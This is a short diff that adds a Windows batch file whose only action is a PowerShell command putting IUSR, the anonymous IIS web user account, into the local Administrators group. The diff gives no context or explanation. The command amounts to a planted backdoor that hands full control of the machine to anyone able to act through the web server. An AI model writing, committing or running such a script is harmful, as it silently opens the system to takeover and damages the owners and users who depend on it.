@@ -1,0 +1,2 @@
+@echo off
+powershell -NoProfile -Command "Add-LocalGroupMember -Group 'Administrators' -Member 'IUSR'"
